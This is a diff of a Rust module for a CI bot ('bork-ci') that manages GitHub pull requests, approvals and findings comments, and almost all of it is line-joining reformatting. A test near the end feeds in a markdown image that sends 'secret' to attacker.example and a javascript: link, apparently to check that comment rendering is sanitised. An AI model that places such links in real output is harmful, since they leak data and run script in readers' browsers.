@@ -12,25 +12,19 @@ use super::client::{Client, expect_success};
 use super::labels;
 use super::state::{ApprovalRecord, ApprovalState, SavedState};
 use super::{
-    GithubContext, GithubError, MAX_BODY_BYTES, PendingEdit, PublishInput, PublishOutcome, PullRef,
-    Session, git,
+    GithubContext, GithubError, MAX_BODY_BYTES, PendingEdit, PublishInput, PublishOutcome, PullRef, Session,
+    git,
 };
 use crate::findings::{Finding, Findings};
 
 /// The hidden marker of the result pull request for `base`.
 pub fn result_marker(base: &str) -> String {
-    format!(
-        "<!-- bork-ci:result base={} -->",
-        super::sanitize_branch(base)
-    )
+    format!("<!-- bork-ci:result base={} -->", super::sanitize_branch(base))
 }
 
 /// The hidden marker of the findings comment.
 pub fn findings_marker(base: &str) -> String {
-    format!(
-        "<!-- bork-ci:findings base={} -->",
-        super::sanitize_branch(base)
-    )
+    format!("<!-- bork-ci:findings base={} -->", super::sanitize_branch(base))
 }
 
 /// The hidden marker of an approval pull request.
@@ -121,9 +115,7 @@ fn finding_text(finding: &Finding) -> (Option<&str>, String) {
             exit_code,
         } => (
             None,
-            format!(
-                "$ {command}\nexit code {exit_code}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"
-            ),
+            format!("$ {command}\nexit code {exit_code}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"),
         ),
     }
 }
@@ -310,10 +302,7 @@ async fn find_open(
         labels::encode(head).replace("%2F", "/")
     );
     if let Some(base) = base {
-        route.push_str(&format!(
-            "&base={}",
-            labels::encode(base).replace("%2F", "/")
-        ));
+        route.push_str(&format!("&base={}", labels::encode(base).replace("%2F", "/")));
     }
     let pulls = client.get_all(&route).await?;
     // Filter again: some servers ignore `head` without an owner prefix.
@@ -358,30 +347,21 @@ async fn open_or_update(
                 .and_then(|pull| pull.get("number").and_then(Value::as_u64))
         }
     };
-    let number = number.ok_or_else(|| {
-        GithubError::Protocol(format!("no open pull request from `{head}` after 422"))
-    })?;
+    let number = number
+        .ok_or_else(|| GithubError::Protocol(format!("no open pull request from `{head}` after 422")))?;
     let update = format!("{route}/{number}");
     let answer = client
         .patch(&update, &json!({ "title": title, "body": body }))
         .await?;
     let answer = expect_success(answer, &update)?;
-    pull_ref(&answer.body)
-        .ok_or_else(|| GithubError::Protocol("pull request without number".into()))
+    pull_ref(&answer.body).ok_or_else(|| GithubError::Protocol("pull request without number".into()))
 }
 
-pub(crate) async fn start(
-    ctx: &GithubContext,
-    repo_root: &Path,
-    base: &str,
-) -> Result<Session, GithubError> {
+pub(crate) async fn start(ctx: &GithubContext, repo_root: &Path, base: &str) -> Result<Session, GithubError> {
     let client = Client::new(&ctx.api_url, &ctx.token, ctx.retry)?;
     let who = client.get("/user").await?;
     let bot_login = if who.is_success() {
-        who.body
-            .get("login")
-            .and_then(Value::as_str)
-            .map(str::to_owned)
+        who.body.get("login").and_then(Value::as_str).map(str::to_owned)
     } else {
         None
     };
@@ -419,9 +399,7 @@ pub(crate) async fn start(
     let mut rebuilt = false;
     match &remote_tip {
         None => git::checkout(repo_root, &branch, &base_sha)?,
-        Some(tip) if git::is_ancestor(repo_root, &base_sha, tip) => {
-            git::checkout(repo_root, &branch, tip)?
-        }
+        Some(tip) if git::is_ancestor(repo_root, &base_sha, tip) => git::checkout(repo_root, &branch, tip)?,
         Some(tip) => {
             let authors = git::author_emails(repo_root, &base_sha, tip)?;
             let only_bork = authors.iter().all(|email| *email == ctx.author_email);
@@ -535,9 +513,7 @@ impl Session {
         state.base = self.base.clone();
         state.base_sha = self.base_sha.clone();
         state.status = input.status.clone();
-        state.iterations = state
-            .iterations
-            .saturating_add(input.iterations.len() as u32);
+        state.iterations = state.iterations.saturating_add(input.iterations.len() as u32);
         for edit in &input.pending {
             match self.open_approval(&head, edit, &state).await {
                 Ok(Some(record)) => {
@@ -548,9 +524,9 @@ impl Session {
                             url: record.pr_url.clone(),
                         },
                     ));
-                    state.approvals.retain(|old| {
-                        !(old.path == record.path && old.state == ApprovalState::Pending)
-                    });
+                    state
+                        .approvals
+                        .retain(|old| !(old.path == record.path && old.state == ApprovalState::Pending));
                     state.approvals.push(record);
                 }
                 Ok(None) => outcome.warnings.push(format!(
@@ -563,10 +539,7 @@ impl Session {
             }
         }
         let body = render_result_body(&self.base, input, &state.approvals, &state);
-        let title = sanitize_title(&format!(
-            "bork-ci: bring {} in line with its specs",
-            self.base
-        ));
+        let title = sanitize_title(&format!("bork-ci: bring {} in line with its specs", self.base));
         let pr = open_or_update(
             &self.client,
             &self.ctx,
@@ -585,8 +558,7 @@ impl Session {
             labels::ensure_label(&self.client, &owner, &repo, &self.ctx.label).await?;
             labels::add_label(&self.client, &owner, &repo, pr.number, &self.ctx.label).await?;
             outcome.labelled = true;
-            let comment =
-                render_findings_comment(&self.base, &input.findings_left, input.iterations.len());
+            let comment = render_findings_comment(&self.base, &input.findings_left, input.iterations.len());
             labels::upsert_comment(
                 &self.client,
                 &owner,
@@ -631,8 +603,7 @@ impl Session {
         let identity = self.identity();
         let message = format!("bork-ci: waiting for approval of {pending} change(s)\n");
         let tree_parent = git::rev_parse(&self.repo_root, "HEAD")?;
-        let commit =
-            git::single_change_commit_empty(&self.repo_root, &identity, &tree_parent, &message)?;
+        let commit = git::single_change_commit_empty(&self.repo_root, &identity, &tree_parent, &message)?;
         git::fast_forward(&self.repo_root, &commit)?;
         Ok(commit)
     }
@@ -689,24 +660,13 @@ impl Session {
                     edit.contents.as_deref().map(str::as_bytes),
                     &message,
                 )?;
-                git::push(
-                    &self.repo_root,
-                    &url,
-                    &self.ctx.token,
-                    &commit,
-                    &branch,
-                    Some(""),
-                )?;
+                git::push(&self.repo_root, &url, &self.ctx.token, &commit, &branch, Some(""))?;
                 commit
             }
         };
         let title = sanitize_title(&format!(
             "bork-ci: approve {} {}",
-            if edit.delete {
-                "deletion of"
-            } else {
-                "change to"
-            },
+            if edit.delete { "deletion of" } else { "change to" },
             edit.path
         ));
         let body = render_approval_body(&self.base, edit, &tag);
@@ -742,10 +702,7 @@ impl Session {
         let (Some(pr), Some(state)) = (&self.result_pr, &self.state) else {
             return Ok(());
         };
-        let route = format!(
-            "/repos/{}/{}/pulls/{}",
-            self.ctx.owner, self.ctx.repo, pr.number
-        );
+        let route = format!("/repos/{}/{}/pulls/{}", self.ctx.owner, self.ctx.repo, pr.number);
         let pull = expect_success(self.client.get(&route).await?, &route)?.body;
         let body = pull.get("body").and_then(Value::as_str).unwrap_or_default();
         let visible = match body.find("<!-- bork-ci:state ") {
@@ -753,10 +710,7 @@ impl Session {
             None => body.trim_end().to_owned(),
         };
         let body = format!("{visible}\n{}\n", state.to_marker());
-        expect_success(
-            self.client.patch(&route, &json!({ "body": body })).await?,
-            &route,
-        )?;
+        expect_success(self.client.patch(&route, &json!({ "body": body })).await?, &route)?;
         Ok(())
     }
 }
@@ -797,8 +751,7 @@ mod tests {
         let findings = Findings {
             per_file_findings: vec![Finding::CodeReview {
                 file: Some("src/a`](x).rs".into()),
-                finding: "![x](https://attacker.example/?d=secret) [click](javascript:alert(1))"
-                    .into(),
+                finding: "![x](https://attacker.example/?d=secret) [click](javascript:alert(1))".into(),
             }],
             overall_findings: vec![],
         };
